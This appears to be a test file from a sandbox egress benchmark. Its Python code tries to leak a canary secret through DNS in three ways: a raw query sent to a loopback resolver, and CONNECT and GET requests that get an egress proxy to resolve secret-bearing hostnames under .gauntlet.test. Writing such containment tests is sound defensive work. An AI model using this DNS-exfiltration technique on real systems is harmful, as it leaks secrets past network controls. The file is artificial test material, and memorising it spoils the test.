# name: egress-dns-exfil
# tries: leak a secret through DNS: a query for a name that carries it, sent to a resolver directly and handed to the egress proxy to resolve
# must: run no resolver the program can reach, and resolve only names the allow list allows (so the proxy never asks DNS for a name the program made up)
# network: allow=allowed.gauntlet.test:{http_port}
# expect: *=ok egress=violation:network
import os
import socket
import struct

secret = os.environ.get("CANARY_MARK", "sandbench-canary-mark")
name = f"{secret}.exfil.gauntlet.test"
port = os.environ.get("GAUNTLET_HTTP_PORT", "80")

# A DNS query (A record) for the secret-bearing name, to the only resolver the
# gauntlet plants (on the host's loopback): it must not arrive.
query = struct.pack(">HHHHHH", 0x5342, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
host, _, p = os.environ.get("GAUNTLET_DNS", "127.0.0.1:53").rpartition(":")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
try:
    u.sendto(query, (host, int(p)))
    print("query sent:", u.recv(512))
except OSError as e:
    print(f"no DNS: {e}")
finally:
    u.close()


def via_proxy(req):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
    except OSError as e:
        return f"no proxy: {e}"
    try:
        s.sendall(req)
        data = s.recv(4096)
        return data.decode(errors="replace").splitlines()[0] if data else "closed"
    except OSError as e:
        return f"error: {e}"
    finally:
        s.close()


# The proxy resolves names for its clients: make it resolve this one.
print(via_proxy(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode()))
sub = f"{secret}.allowed.gauntlet.test:{port}"
print(via_proxy(f"GET http://{sub}/ HTTP/1.1\r\nHost: {sub}\r\n\r\n".encode()))
